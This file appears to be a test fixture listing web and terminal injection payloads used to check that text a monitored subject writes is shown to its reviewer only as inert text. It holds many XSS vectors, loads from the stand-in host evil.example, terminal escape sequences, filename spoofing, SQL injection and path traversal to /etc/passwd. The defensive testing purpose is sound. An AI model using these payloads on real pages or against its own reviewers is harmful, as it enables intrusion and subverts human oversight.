const MARK = 'window.__ran=1';

/** What a subject may write to get at its reviewer: each must be text on the page, and nothing else. */
export const PAYLOADS: readonly string[] = [
  ...[
    `<script>${MARK}</script>`,
    `</script><script>${MARK}</script>`,
    `<ScRiPt>${MARK}</sCrIpT>`,
    `<script src=//evil.example/x.js>`,
  ],
  ...[
    `<img src=x onerror="${MARK}">`,
    `<img src=x onerror=${MARK}//`,
    `"><img src=x onerror=${MARK}>`,
    `'><img src=x onerror=${MARK}>`,
  ],
  ...[
    `<svg onload=${MARK}>`,
    `<svg><script>${MARK}</script></svg>`,
    `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  ],
  ...[
    `<svg><a xlink:href="javascript:${MARK}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg onload=${MARK}>">`,
  ],
  ...[`<math><mtext><table><mglyph><style><img src=x onerror=${MARK}>`, `<math href="javascript:${MARK}">x</math>`],
  ...[
    `javascript:${MARK}`,
    `JaVaScRiPt:${MARK}`,
    `java\tscript:${MARK}`,
    `data:text/html,<script>${MARK}</script>`,
    `vbscript:${MARK}`,
  ],
  ...[
    `<a href="javascript:${MARK}">x</a>`,
    `[x](javascript:${MARK})`,
    `![x](https://evil.example/x.png)`,
    `<base href="https://evil.example/">`,
  ],
  ...[
    `<iframe src="javascript:${MARK}"></iframe>`,
    `<iframe srcdoc="<script>${MARK}</script>">`,
    `<object data="https://evil.example/">`,
  ],
  ...[
    `<embed src="https://evil.example/">`,
    `<link rel=stylesheet href="https://evil.example/x.css">`,
    `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  ],
  ...[
    `<style>@import url(https://evil.example/x.css)</style>`,
    `<div style="background:url(https://evil.example/x.png)">`,
    `</style><script>${MARK}</script>`,
  ],
  ...[
    `</textarea><script>${MARK}</script>`,
    `</title><script>${MARK}</script>`,
    `</pre></code></td></table></main></body></html><script>${MARK}</script>`,
  ],
  ...[
    `--><script>${MARK}</script><!--`,
    `<!--><script>${MARK}</script>`,
    `<![CDATA[<script>${MARK}</script>]]>`,
    `<noscript><p title="</noscript><script>${MARK}</script>">`,
  ],
  ...[
    `<form action="https://evil.example/"><input name=csrf>`,
    `<button form=x formaction="https://evil.example/">x</button>`,
    `<input autofocus onfocus=${MARK}>`,
  ],
  ...[
    `<details open ontoggle=${MARK}>`,
    `<video><source onerror=${MARK}>`,
    `<body onload=${MARK}>`,
    `<template><script>${MARK}</script></template>`,
  ],
  ...[
    `{{constructor.constructor("${MARK}")()}}`,
    `\${${MARK}}`,
    `<%= ${MARK} %>`,
    `#{${MARK}}`,
    `&lt;script&gt;${MARK}&lt;/script&gt;`,
    `&#60;script&#62;${MARK}`,
  ],
  ...[
    '\u001b[2J\u001b]0;owned\u0007\u001b[31m',
    'a\u0000b',
    'evil\u202Egnp.exe',
    'x\u200b\u2060\ufeff\u00ady',
    '\r\rover\u0008\u0008',
  ],
  ...[
    'a\ud800b',
    'Z\u0301'.repeat(4) + '\u0301'.repeat(400),
    '\u2028\u2029\u0085',
    'x'.repeat(1_048_576),
    'A\u{e0041}\u{e0042}',
  ],
  ...['constructor', '__proto__', "' OR 1=1 --", '../../../../etc/passwd', '漢'.repeat(5_000)],
];
